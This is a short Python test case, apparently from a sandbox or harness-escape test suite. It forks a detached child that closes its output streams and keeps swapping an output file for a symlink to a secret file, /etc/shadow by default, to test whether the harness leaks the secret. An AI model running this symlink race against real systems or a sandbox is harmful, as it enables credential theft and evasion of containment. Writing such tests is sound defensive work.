# f105_swap_after_exit [filesystem] a child swaps an artifact for a link after the parent has ended
# expect: ok ; invariants: no_secret
import json, os, sys, time, ctypes
C = json.load(open("_attack.json")) if os.path.exists("_attack.json") else {}
def esc(what): print("ESCAPED:" + what, flush=True)
def safe(f, *a, **k):
    try: return f(*a, **k)
    except BaseException as e: print("blocked:", type(e).__name__, str(e)[:120], flush=True); return None
l = ctypes.CDLL(None, use_errno=True)
x86 = os.uname().machine == "x86_64"
def call(n86, n64, *a):
    r = l.syscall(ctypes.c_long(n86 if x86 else n64), *a); print(n86, r, ctypes.get_errno()); return r
open("a.txt", "w").write("honest")
if os.fork() == 0:
    os.setsid()
    for fd in (0, 1, 2): os.close(fd)
    while True:
        try:
            os.symlink(C.get("secret_file", "/etc/shadow"), "b.txt"); os.rename("b.txt", "a.txt")
            open("c.txt", "w").write("honest"); os.rename("c.txt", "a.txt")
        except OSError: pass
